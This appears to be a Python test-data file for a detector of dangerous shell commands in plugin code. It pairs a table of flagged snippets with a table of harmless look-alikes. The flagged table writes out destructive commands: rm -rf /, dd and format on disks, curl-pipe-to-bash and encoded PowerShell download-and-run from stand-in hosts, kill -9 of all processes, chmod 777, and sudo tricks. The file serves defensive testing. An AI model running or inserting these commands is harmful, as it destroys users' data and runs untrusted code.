# -*- coding: utf-8 -*-
"""More of what `test_dangerous` holds: every way to run a command, and texts that look like one and are none."""
from __future__ import absolute_import, division, print_function

# {kinds of danger: sources that have them, and no other}; a blank line stands between two sources.
FOUND = {
    'crontab': r"""
os.system('crontab -u plex -r')

x = "crontab -r"
""",
    'deletion': r"""
os.system('rm -fr /tmp/x')

os.system('rm --recursive --force build')

os.system('/bin/rm -r -f x')

subprocess.Popen("rm -rf /tmp/x".split(' '))

os.system(' '.join(('rm', '-rf', path)))

shutil.rmtree('C:\\Windows')

shutil.rmtree('C:\\')

shutil.rmtree('/usr')

shutil.rmtree(os.path.expanduser('~'))

shutil.rmtree('/', ignore_errors=True)

shutil.rmtree(path='/')

os.removedirs('/etc/x')

os.system('powershell -Command "Remove-Item -Recurse -Force C:\\x"')

subprocess.call(['powershell', '-Command', 'Remove-Item', '-Recurse', '-Force', 'C:\\x'])

os.system('powershell Remove-Item C:\\x -Recurse -Force')

os.system('del /s /q C:\\x')

os.system('del /q /f x')

os.system('rd /s /q "C:\\Program Files\\x"')

os.system('RMDIR /S /Q x')

subprocess.call(['cmd', '/c', 'rd', '/s', '/q', 'x'])

subprocess.call(['cmd.exe', '/C', 'del /f /q x'])

commands.getstatusoutput('rm -rf x')

os.spawnl(os.P_WAIT, '/bin/rm', 'rm', '-rf', x)

os.execl('/bin/rm', 'rm', '-rf', x)

os.system("rm -rf '{}'".format(x))

args = ['rm', '-rf']; args.append(p); subprocess.call(args)

os.system('rm -rf -- "$HOME"')

os.system('cd / && rm -rf *')

os.system('rm -rf ~')

os.system('find . -name "*.pyc" -delete')

os.system('find . -name "*.pyc" | xargs rm -f')

os.system('while true; do rm -rf x; done')

os.system('nice -n 19 rm -rf x')

os.system('ionice -c 3 rm -rf x')

os.system('\\rm -rf x')

os.system('ssh root@host rm -rf /x')

os.system('docker exec plex rm -rf /config')

os.system('history -c; shred -u x')

os.unlink('/etc/hosts')

subprocess.call(["bash", "-c", "rm -rf %s" % path])

subprocess.call(args=('rm', '-rf', '/'))

subprocess.call(['xargs', 'rm', '-rf'])

subprocess.call(['find', '/', '-exec', 'rm', '-rf', '{}', ';'])

x = "rm -rf /Library/Caches"

x = 'powershell -Command "Remove-Item -Recurse -Force C:\\x"'

x = 'rd /s /q C:\\Plex'

x = 'del /s /q C:\\Plex\\*.*'

os.system(('rm -rf '
   '/tmp/x'))

os.system('rm ' \
   '-rf x')

def sh(*args):
    subprocess.call(list(args))
sh('rm', '-rf', x)

SCRIPT = '''
cd /tmp
rm -rf cache
'''
os.system(SCRIPT)

os.system('; '.join(['cd x', 'rm -rf y']))

RM = 'rm'
subprocess.call([RM, '-rf', x])

os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', x)

os.execl(p, 'rm', '-rf', x)

rm = 'rm'
os.execlp(rm, rm, '-rf', '/')

C = [{'cmd': ['rm', '-rf', x]}]

os.system('powershell -NoProfile -ExecutionPolicy Bypass -Command Remove-Item C:\\x -Recurse')

os.system('CMD /C RD /S /Q x')

os.system('xargs -n 1 rm -rf < x')

os.system('timeout --kill-after=5 10 rm -rf x')

shutil.rmtree(os.path.expanduser('~/'))

os.remove(path='/etc/hosts')
""",
    'deletion privilege': r"""
cmd = ' '.join(['sudo', 'rm', '-rf', path])

subprocess.call(['osascript', '-e', 'do shell script "rm -rf /x" with administrator privileges'])

x = 'sudo rm -rf /tmp/x'
""",
    'disk': r"""
os.system('dd if=/dev/urandom of=/dev/sdb bs=1M')

subprocess.check_call(['dd', 'if=/dev/zero', 'of=/dev/disk2'])

subprocess.call(['mkfs.ext4', '/dev/sdb1'])

os.system('echo 1 > /dev/sda')

os.system('format c:')

os.system('format D: /fs:ntfs /q')

os.system('fdisk /dev/sda')

os.system('parted /dev/sda mklabel gpt')

os.system('wipefs -a /dev/sda')

os.system('diskutil eraseVolume JHFS+ x disk2')

x = 'dd if=/dev/zero of=/dev/sda'

x = 'format c:'

x = 'mkfs.ext4 /dev/sdb1'
""",
    'downloaded-code': r"""
os.system('curl -fsSL https://x.y/install.sh | bash')

os.system('wget -qO- http://x.y/z | sh')

os.system('wget -O- http://x.y/z | sh -s -- arg')

os.system('wget http://x.y/z.sh && sh z.sh')

os.system('bash -c "$(wget -qO- http://x)"')

os.system('powershell -c "iex (New-Object Net.WebClient).DownloadString(\'http://x\')"')

subprocess.call(["sh", "-c", "curl x | sh"])

os.system('powershell -enc ' + x + ''); os.system('powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A')

os.system('curl -o i.sh http://x/i.sh; chmod +x i.sh; ./i.sh')

os.system('wget http://x/i.py && python i.py')

x = 'wget http://x/i.sh && bash i.sh'

os.system('curl http://x | python -')
""",
    'downloaded-code privilege': r"""
os.system('curl https://x.y/install.sh | sudo bash -')

x = 'curl -L http://x/y.sh | sudo bash'

os.system('curl http://x | tee y | sudo sh')
""",
    'kill': r"""
subprocess.call(shlex.split("killall -9 'Plex Media Server'"))

os.system('killall -9 PlexScriptHost')

os.system("pkill -9 -f 'Plex Plug-in'")

os.system('taskkill /F /IM "Plex Media Server.exe"')

subprocess.call('taskkill /f /im PlexScriptHost.exe', shell=True)

os.system('kill -9 $(pidof plex)')

os.system('kill -9 `pgrep Plex`')

os.system('ps aux | grep Plex | awk "{print $2}" | xargs kill -9')

os.kill(-1, signal.SIGKILL)

x = ["killall", "Plex Media Server"]

x = 'taskkill /F /IM plex.exe'

subprocess.call(['powershell', '-File', 'x.ps1', ]); os.system('powershell Stop-Process -Name plex')

os.system('TASKKILL /F /IM x.exe')
""",
    'packages': r"""
os.system('apt install ffmpeg')

os.system('apt-get -y install ffmpeg')

os.system('yum install x')

os.system('dnf -y install x')

os.system('brew install ffmpeg')

os.system('/usr/local/bin/brew install ffmpeg')

os.system('pip install --user lxml')

os.system('pip3 install -U lxml')

subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'lxml'])

os.system('easy_install lxml')

os.system('npm install -g x')

os.system('gem install x')

os.system('conda install lxml')

os.system('pacman -Syu')

os.system('zypper in x')

os.system('apk add x')

os.system('opkg install x')

os.system('synopkg stop PlexMediaServer')

os.system('ipkg install x')

os.system('snap remove x')

os.system('port install x')

os.system('softwareupdate -ia')

x = 'apt-get install -y python-lxml'
""",
    'permissions': r"""
os.system('chmod -R 777 /var/www')

os.system('chmod 0777 "%s"' % path)

os.system('chmod ugo+rwx x')

os.system('chmod a=rwx x')

subprocess.call(['chmod', '-R', '777', path])

os.chmod(path, 0o777)

os.chmod(path, stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)

os.chmod(path, 511)

os.system('chown root:root /x -R')

os.system('setfacl -R -m o::rwx x')

os.system('icacls x /grant Everyone:F /T')

os.system('takeown /f x /r')

os.chown('/etc', 0, 0)

x = ['chmod', '-R', '777', '/data']

x = 'chmod -R 777 /config'

os.chmod('/x', mode=0o777)

os.lchown('/etc', 1, 1)
""",
    'permissions privilege': r"""
return 'sudo chmod 777 %s' % path
""",
    'privilege': r"""
os.system('env sudo ls')

os.system('nohup sudo ls')

os.system('sh -c "sudo ls"')

subprocess.Popen("sudo ls -la".split())

os.system(' '.join(['sudo', 'ls']))

os.popen2('sudo ls')

os.popen3(['sudo', 'ls'])

popen2.popen3('sudo ls')

os.spawnv(os.P_NOWAIT, '/usr/bin/sudo', ['sudo', 'ls'])

os.execv('/bin/sh', ['sh', '-c', 'sudo ls'])

os.execve('/usr/bin/sudo', args, env)

from os import system as s; s('sudo ls')

import os as o; o.popen('sudo ls').read()

from subprocess import Popen, PIPE; Popen(['sudo', 'ls'], stdout=PIPE)

p = subprocess.Popen(['sudo', '-S', 'ls'], stdin=PIPE)

run = os.system; run('sudo ls')

os.system('%s rm -rf x' % 'sudo')

os.system('sudo {0}'.format(x))

cmd = "sudo "; cmd += "ls"; os.system(cmd)

os.system('echo pw | sudo -S ls')

os.system('sudo -u plex ls')

os.system('su - plex -c ls')

os.system('su root')

os.system('gksudo ls')

os.system('runas /user:Administrator cmd')

os.system('test -d x || sudo mkdir x')

os.system('(sudo ls)')

os.system('{ sudo ls; }')

os.system('! sudo ls')

os.system('exec sudo ls')

os.system('time -p sudo ls')

os.system('setsid sudo ls')

os.system('eval "sudo ls"')

os.system('timeout -k 5 10 sudo ls')

os.system('sudo\tls')

os.system('"sudo" ls')

os.system('su""do ls')

os.system('$(which sudo) ls')

os.system('sudo -n true && ls')

os.system('command -p sudo ls')

subprocess.Popen(['/bin/bash', '-c', 'sudo ls'])

subprocess.check_output('sudo ls', shell=True)

subprocess.call(['/usr/bin/env', 'sudo', 'ls'])

subprocess.call(['nohup', 'sudo', 'ls'])

RESTART = ["sudo", "service", "plexmediaserver", "restart"]

x = {'cmd': 'sudo service plex restart'}

x = 'osascript -e \'do shell script "x" with administrator privileges\''

x = 'su -c "service plex restart"'

x = 'su - plex -c "ls"'

x = 'sh -c "sudo ls"'

x = 'nohup sudo ls -l &'

cmd = ['sudo',
 'ls',
 '-l']
subprocess.call(cmd)

def sh(*args):
    subprocess.call(args)
sh('sudo', 'ls')

def sh(cmd, **kw):
    return subprocess.Popen(cmd, **kw)
sh(cmd='sudo ls')

class R:
    CMD = 'sudo ls'
    def go(self):
        os.system(self.CMD)

from subprocess import check_output as co
co(['sudo', 'id'])

call = subprocess.call
call(['sudo', 'id'])

t = threading.Thread(target=os.system, args=('sudo ls',))

with os.popen('sudo ls') as f:
    pass

x = lambda: os.system('sudo ls')

if os.system('sudo ls') == 0:
    pass

print os.popen('sudo ls').read()

Log(os.popen('sudo ls').read())

raise E(os.system('sudo ls'))

return subprocess.check_output(['sudo', 'ls'])

assert os.system('sudo ls') == 0

SCRIPT = '''#!/bin/bash
set -e
sudo ls
'''

title = 'sudo ls'
os.system(title)

x = 'sudo %s' % 'ls'
os.system(x)

try:
    os.system('sudo ls')
except: pass

Thread.Create(os.system, 'sudo ls')

os . system ( 'sudo ls' )

os.system(b'sudo ls')

os.system(ur'sudo ls')

os.system(U'sudo ls')

os.system('''sudo ls''')

os.posix_spawn('/usr/bin/sudo', ['sudo','ls'], {})

subprocess.Popen(**{'args': ['sudo', 'ls']})

from subprocess import *
call(['sudo', 'ls'])

os.system('sudo' if x else 'ls')

os.system(x or 'sudo ls')

os.system(u'sudo %s' % x.encode('utf-8'))

cmd = 'sudo'
os.system(cmd + ' ls')

cmd = '%s rm'
os.system(cmd % 'sudo')

SUDO = '/usr/bin/sudo'
subprocess.call([SUDO, 'ls'])

os.execlp('sudo', 'x', 'ls')

os.execv('/usr/bin/sudo', args)

os.execvp(prog, ['sudo', 'ls'])

os.spawnvp(os.P_WAIT, 'sudo', argv)

args = ['sudo', 'ls']
os.execvp('sudo', args)

def sh(tag, *args):
    subprocess.call(args)
sh('x', 'sudo', 'ls')

C = {'restart': ['sudo', 'service', 'plex', 'restart']}

os.system('env -u X sudo ls')

os.system('sudo -H -u plex ls')

thread.start_new_thread(os.system, ('sudo ls',))
""",
    'privilege service': r"""
os.system('sudo launchctl stop com.plexapp.plexmediaserver')

os.system('''osascript -e 'do shell script "launchctl stop x" with administrator privileges'''')

COMMAND = 'sudo launchctl stop com.plex'

x = 'do shell script "launchctl stop plex" with administrator privileges'

C = {'a': {'b': ('sudo', 'launchctl', 'stop', 'x')}}
""",
    'privilege shutdown': r"""
os.system('ssh -p 22 root@host "sudo reboot"')
""",
    'privilege system-write': r"""
subprocess.call('echo x|sudo tee /etc/hosts', shell=True)

x = 'cat y | sudo tee /etc/z'
""",
    'service': r"""
os.system('systemctl disable plexmediaserver')

os.system('systemctl --user stop plex')

os.system('/etc/init.d/plexmediaserver stop')

os.system('net stop PlexService')

os.system('sc delete PlexService')

os.system('launchctl unload -w ~/Library/LaunchAgents/x.plist')

os.system('launchctl bootout system/x')
""",
    'settings': r"""
os.system('mount -o remount,rw /')

os.system('umount /')

os.system('passwd root')

os.system('usermod -aG sudo plex')

os.system('reg add HKCU\\x /v y /d z /f')

os.system('reg.exe delete HKLM\\Software\\x /f')

os.system('tccutil reset All')

os.system('spctl --master-disable')
""",
    'shutdown': r"""
os.system('shutdown -r now')

os.system('/sbin/reboot')

os.system('halt -p')

os.system('poweroff')

os.system('shutdown /s /t 0')

os.system('shutdown.exe /r')

os.system('powershell -Command "Stop-Computer"')

os.startfile('shutdown.exe')

x = 'shutdown -h now'

class R:
    CMD = 'reboot'
    def go(self):
        os.system(R.CMD)

CMDS = [
 'ls',
 'reboot',
]
map(os.system, CMDS)

Log('x %s' % os.system('reboot'))

msg = 'reboot'
os.system(msg)

os.system('reboot' if x else 'ls')

os.system(cmds.get('x', 'reboot'))

os.system(' && '.join(['cd x', 'reboot']))

os.system('pwsh -c "Restart-Computer -Force"')

c = os.popen
c('reboot')

apply(os.system, ('reboot',))

pool.map(os.system, ['reboot', 'ls'])

timer = threading.Timer(5, os.system, ['reboot'])

def go(c):
    subprocess.call(c, shell=True)
threading.Thread(target=go, args=('reboot',)).start()

functools.partial(subprocess.call, ['reboot'])()
""",
    'system-write': r"""
open('/dev/sda', 'wb').write(x)

open('/etc/passwd', 'a')

io.open('/etc/hosts', 'w', encoding='utf-8')

codecs.open('/etc/hosts', 'w', 'utf-8')

open(r'C:\Windows\System32\drivers\etc\hosts', 'w')

open('C:\\Windows\\win.ini', 'w')

shutil.copy('x', 'C:\\Windows\\System32')

os.system('cat x >> /etc/fstab')

os.system('echo x >/etc/cron.d/y')

os.system('mv x /usr/local/bin/')

os.system('truncate -s 0 /etc/hosts')

os.rename('/etc/hosts', '/tmp/x')

os.rename('x', '/etc/hosts')

os.rename('/usr', '/usr2')

shutil.move('/etc', '/tmp')

os.symlink(x, '/etc/y')

x = 'echo x > /etc/hosts'

shutil.move('/usr/lib', x)

shutil.copyfile(src=x, dst='/etc/hosts')

os.truncate('/etc/hosts', 0)
""",
}

HARMLESS = r"""
title = 'Kill Bill: Vol. 1'

title = 'Shutdown'

title = 'The Format'

titles = ['Sudo', 'Reboot', 'Halt and Catch Fire', 'Format C']

titles = ('Kill', 'Reboot', 'Dump')

metadata.title = 'Sudo rm -rf'

metadata.genres.add('Reboot')

metadata.studio = 'Killall Productions'

actors = ['Su Lin', 'Dd Vy', 'Chmod']

Log('Reboot the server with: sudo reboot')

Log.Info('Starting: rm -rf will not be used')

Log.Error("run 'sudo chmod 777 %s' yourself" % path)

log('shutdown -h now was asked')

logger.warning('killall %s', name)

logging.info('curl %s | sh', x)

self.log.debug('sudo: ' + x)

self.logger.info('cmd: rm -rf %s' % x)

print 'usage: sudo %s' % sys.argv[0]

print >>sys.stderr, 'sudo rm -rf /'

sys.stderr.write('run: sudo pip install lxml\n')

sys.stdout.write('rm -rf %s\n' % x)

raise RuntimeError('please run: sudo apt-get install ffmpeg')

raise SystemExit('sudo apt-get install ffmpeg')

sys.exit('sudo apt-get install ffmpeg')

parser.error('sudo pip install x')

return MessageContainer('Error', 'run sudo chmod 777 /x')

return ObjectContainer(header='x', message='sudo chmod 777 /x')

re.compile(r'sudo\s+rm\s+-rf')

re.search('rm -rf /', text)

re.sub('kill -9 .*', '', text)

if re.match(r'sudo (.+)', line): pass

pattern = r'\b(?:sudo|su|doas)\b'

DANGEROUS = ['sudo', 'rm -rf', 'dd if=', 'mkfs']

FORBIDDEN = ('sudo rm', 'chmod 777')

DANGEROUS_COMMANDS = {'sudo ls': 'privilege', 'rm -rf /': 'deletion'}

if 'rm -rf' in cmd: raise ValueError(cmd)

if cmd.startswith('sudo '): pass

if cmd == 'rm -rf /': pass

cmd.replace('sudo ', '')

if cmd.split()[0] in ('sudo', 'su'): pass

HTTP.Request('http://example.com/sudo/rm?-rf=1')

url = 'https://example.com/kill/reboot'

url = 'http://shutdown.com/format/c:'

url = 'http://x.com/?q=sudo%20rm%20-rf'

html.xpath('//div[@class="rm -rf"]')

html.xpath('//dd/a/text()')

html.xpath('//dl/dd[1]')

el = html.xpath('//dt[text()="Format:"]/following-sibling::dd')

x = '<dd>rm</dd>'

x = '<a href="/su/kill">reboot</a>'

headers = {'User-Agent': 'curl/7.54.0'}

headers = {'User-Agent': 'Wget/1.20 (linux-gnu)'}

HTTP.Headers['User-Agent'] = 'wget'

x = 'pseudo rm'

x = 'pseudo-code'

x = 'visudo is safer'

x = 'su casa es mi casa'

x = 'Su nombre es'

x = 'su mano derecha'

x = 'Halt mich fest'

x = 'norm -rf'

x = 'form -f x'

x = 'farm alarm term rm'

x = 'Rm -f'

x = 'kill the messenger'

x = 'killall the lights'

x = 'the dd option'

x = 'Format: DVD'

x = 'format'

x = 'DVD format C: region 1'

x = 'reg add'

x = 'find me'

x = 'find a friend -delete'

x = 'cat on a hot tin roof'

x = 'cat > dog'

x = 'echo chamber'

x = 'touch me, 2010'

x = 'Touch of Evil'

x = 'make love, not war'

x = 'install the app'

x = 'go install yourself'

x = 'pip install'

x = 'apt install'

x = 'brew'

x = 'systemctl'

x = 'test /etc/passwd'

x = '/etc/passwd'

path = '/usr/bin/sudo'

SUDO = 'sudo'

open('/etc/passwd').read()

open('/etc/hosts', 'r')

open('/etc/hosts', 'rb')

open('/proc/cpuinfo')

open('/tmp/x', 'w')

open(path, 'w')

os.chmod(path, 0o700)

os.chmod(path, 493)

os.system('chmod +x x')

os.system('chmod -R u+w x')

os.system('rm x')

os.system('rm "%s"' % x)

os.system('rmdir x')

os.system('ls -la /etc')

os.system('cat /etc/hosts')

os.system('grep sudo /var/log/auth.log')

os.system('echo sudo')

os.system('echo "sudo rm -rf /"')

os.system('which sudo')

os.system('man rm')

os.system('kill 123')

os.system('kill -9 %d' % pid)

os.system('kill -HUP %s' % pid)

os.system('ps aux | grep killall')

os.system('git rm x')

os.system('svn rm x')

os.system('npm run format')

os.system('curl -O http://x/y')

os.system('curl http://x | grep y')

os.system('wget http://x')

os.system('ls 2>/dev/null')

os.system('ls > /tmp/x')

os.system('cp x /tmp/y')

os.system('cp /etc/hosts /tmp/y')

os.system('launchctl list')

os.system('launchctl kickstart -k gui/501/com.plex')

os.system('systemctl status plex')

os.system('systemctl --user restart plex')

os.system('crontab -l > x')

os.system('pip --version')

os.system('pip freeze')

os.system('brew list')

os.system('apt list')

os.system('dpkg -l')

os.system('rpm -qa')

os.system('defaults read com.x')

os.system('taskkill /PID 123')

os.system('osascript -e "display notification"')

os.system('del x.txt')

os.system('dir /s')

os.system('rd x')

os.system('format_disk.py')

os.system('shutdownable --x')

os.system('python rm.py')

os.system('ffmpeg -i x -f null /dev/null')

os.system('dd --help')

os.system('man sudo > x')

os.system('ssh host ls')

os.system('bash x.sh')

os.system('sh -c "ls"')

subprocess.call(['ls', '-rf'])

subprocess.call(['echo', 'sudo'])

subprocess.call(['python', 'x.py', 'rm', '-rf'])

subprocess.call(['grep', '-r', 'sudo', '/x'])

subprocess.check_output(['uname', '-a'])

subprocess.Popen(['ffmpeg', '-i', 'x'])

subprocess.call(['open', '/x'])

l.remove('sudo')

l.remove('/etc')

s.remove('/')

os.remove('/tmp/x')

os.remove('x')

shutil.rmtree('/tmp/x')

shutil.rmtree(path)

shutil.rmtree(os.path.join('/etc', x))

shutil.copy('/etc/hosts', '/tmp')

shutil.move(x, '/tmp/y')

os.rename('x', 'y')

x.rename('/etc')

d['sudo'] = 1

d['rm -rf /'] = 1

d = {'sudo': 1, 'kill': 2, 'rm': 3}

d = {'kill': 'Kill Bill', 'format': 'Format C:'}

KEYS = {'su': 'Sundanese', 'rm': 'Romansh', 'dd': 'x'}

LANG = [('su', 'Sundanese'), ('rm', 'Romansh'), ('sh', 'Serbo-Croatian')]

LANG = ['su', 'rm', 'sh', 'dv', 'no']

codes = ['sh', 'su', '-']

x = ('su', '-')

words = ['rm', 'sudo', 'kill', 'dd']

words = ['find', 'search', 'format', 'kill -9']

DATE = ['date', '%Y-%m-%d']

F = ['format', '%s']

F = ('date', '-released')

SORT = ['date', '-date', 'title']

x = ['open', '1080p']

x = ['format', 'C:']

x = ['install', '-x']

x = ['test', '/x/y']

x = ['cat', '/cat/']

x = ('Date', '%d %B %Y')

x = [('kill', '/kill'), ('find', '/find')]

x = ('find', '//a/@href')

x = ['date', './/span[@class="date"]/text()']

x = ('title', 'date', '//dd')

x = ['head', '//head/title']

x = ('head', '/html/head')

x = ['link', '/x', 'ln', '/y']

x = ['start', '$x', 'stop']

x = ['stop', 'start', 'kill', 'status', '-x']

class sudo(object): pass

class Reboot(Agent.Movies): name = 'Reboot'

def sudo(): return 1

def rm(path): return None

sudo('ls')

rm('-rf', 'x')

from rm import rf

sudo = 'sudo'; print sudo

assert x == 'sudo ls -l'

self.assertEqual(x, 'rm -rf /')

self.assertIn('sudo rm', x)

assert 'rm -rf /' not in x

x = L('sudo reboot')

x = _('sudo reboot -h now')

HELP = 'sudo rm -rf /'

description = 'rm -rf /x && reboot'

summary = 'He types sudo rm -rf / and the world ends'

metadata.summary = 'sudo rm -rf /'

metadata.tagline = 'killall humans'

x = 'Type sudo rm -rf / to end it'

x = 'In this film she will rm -rf /home'

x = "dd if you like it"

x = 'reboot: -1'

x = 'halt!'

x = 'Kill -9'

x = 'Pkill'

x = 'umount'

x = 'time /x'

x = 'ps /x'

x = 'ip 10.0.0.1'

x = 'ed /x/y'

x = 'go /x'

x = 'export %s'

x = 'export -f'

x = 'date=%s'

x = 'date %Y-%m-%d'

x = 'format %s'

x = 'sort=-date'

x = 'set x=1'

x = 'test=1'

x = 'find //a'

x = 'cat=1&su=2'

x = 'id=5 > /x'

x = 'html > /body'

x = 'div > /etc/x'

x = 'a;rm -rf b'

x = 'text-align: center; kill -9'

x = 'python 2.7'

x = 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_12) curl/7'

x = 'openssl enc'

x = 'source | sh'

x = 'english | sh | hr'

x = 'sort | uniq'

x = 'Title | Sh'

x = 'en|sh|rm|su'

sh = 'sh'

x = 'with administrator privileges'

x = 'requires administrator privileges to install'

x = 'rm -rf'

x = 'rm -r'

x = 'chmod 777'

x = 'chmod'

x = 'sudo !!'

x = 'su -'

x = 'C:\\Windows\\Fonts'

os.path.exists('/etc/passwd')

os.path.join('/usr/bin', 'sudo')

os.path.join(x, 'rm', '-rf')

os.access('/usr/bin/sudo', os.X_OK)

Dict['sudo'] = 'sudo ls'

String.Quote('sudo ls')

Regex('rm -rf (.*)')

HTML.ElementFromString('<b>sudo rm -rf /</b>')

JSON.ObjectFromString('{"cmd": "sudo rm -rf /"}')

x = '{"cmd": "sudo rm -rf /"}'

x = '<b>sudo rm -rf /</b>'

x = 'file:///etc/passwd'

x = 'select * from x where y > /etc/x'

x = 'data:text/plain,sudo'

x = 1 # sudo rm -rf /

x = {
  'sudo ls': 1,
  'rm -rf /': 2,
}

for x in ['sudo', 'rm -rf']:
    if x in cmd: raise E(x)

for bad in ('sudo rm -rf /', 'reboot'):
    assert bad not in source

@pytest.mark.parametrize('x', ['sudo ls'])
def test(x): pass

parser.add_argument('--x',
    help='rm -rf /tmp/x')

argparse.ArgumentParser(description='sudo ls -l')

from os import system
system.x = 'reboot'

def f(system):
    title = 'reboot'
    return title

GENRES = {
 'Sh': 'Short',
 'Su': 'Suspense'}

STUDIOS = ['Kill Media', 'Reboot', 'DD', 'RM -F']

x = [
 'killall',
 'pkill',
 'sudo',
]

NAMES = 'rm sudo kill dd mkfs'.split()

NAMES = frozenset('sudo su doas pkexec'.split())

x = 'apt-get brew pip yum'.split()

Log('Running %s' % 'sudo ls')

Log('%s' % ' '.join(['sudo', 'ls']))

Log(', '.join(['rm', '-rf']))

CHOICES = [('rm -rf', 'Delete'), ('mv', 'Move')]

x = '''
<dl>
<dd>sudo rm -rf /</dd>
</dl>'''

x = '''Dear user,
please run sudo rm -rf / now.
'''

text = '''To install:
    sudo apt-get install ffmpeg
    pip install lxml
'''

INSTALL = 'Please install ffmpeg: sudo apt-get install ffmpeg'

cast = ['Reboot Jones', 'Sudo Kumar']
for a in cast:
    Log(a)

name = 'reboot'
os.path.join(name)

x = 'reboot'
subprocess.call(['ls'])

title = 'reboot'
os.system('echo %s' % title)

os.execlp('echo', 'echo', 'sudo')

os.execl('/bin/ls', 'sudo', 'x')

os.spawnlp(os.P_WAIT, 'grep', 'grep', 'reboot')

def sh(tag, *args):
    subprocess.call(args)
sh('reboot', 'ls')

def sh(*args):
    subprocess.call(args)
sh('echo', 'sudo', 'x')

os.system('curl http://x/a.json | python -m json.tool')

os.system('curl http://x | python -mjson.tool')

os.system('curl http://x | perl -pe s/a/b/')

os.system('curl http://x/i.sh; sh j.sh')

os.system('powershell Get-Process')

os.system('powershell -File x.ps1')

os.system('powershell -Command Get-ChildItem -Recurse')

os.system('powershell "Remove-Item x"')

C = {'find': ['//a', '/b'], 'cat': ('/x', '-y')}

C = {'su': ['su', 'Sundanese'], 'rm': ['rm', 'Romansh']}

C = {('rm', '-rf'): 1}

C = set([('rm', 'x')])

x = 'Go install updates'

x = 'eval(x)'

x = 'eval -x'

x = 'umount'

x = 'takeown'

shutil.move(x, y)

os.rename(a, '/tmp/etc')

shutil.copy('/etc/hosts', dst=x)

os.chmod(p, stat.S_IRWXU)

os.chmod(p, st.st_mode & ~stat.S_IWOTH)

os.chmod(p, mode & ~stat.S_IRWXO)

shutil.rmtree(os.path.expanduser('~/x'))

l.remove()

os.chown(p, 1, 1)

open(file='/etc/hosts')

x.chmod()

os.remove()

open(os.path.expanduser('~/x'), 'w')

SUDO = 'sudo'
if x == SUDO: pass

RM = 'rm'
x = [RM, 'ls']

map(str, ['reboot'])

threading.Thread(target=go, args=('reboot',))

pool.map(fetch, ['reboot', 'halt'])

filter(os.path.exists, ['/etc/passwd', 'reboot'])

sorted(x, key=os.system)

Log(', '.join(['sudo', 'reboot']))

os.system(' && '.join(['ls', 'echo reboot']))

os.system('ls C:')

os.system('format_x c:')

os.system('time -p ls')

os.system('eval ls')

os.system('echo a: > a.txt')

open('a:', 'w')

def f(title, *args):
    Log(title)
f('reboot', 'sudo', 'ls')

x = 'Restart-Computer'

x = 'Stop-Service'

x = 'Remove-Item'

x = 'do shell script is a command of AppleScript'

x = 'do shell script needs administrator privileges'
"""


def sources(text):
    """Return the sources of a table, which blank lines divide."""
    return [one for one in text.strip('\n').split('\n\n') if one]
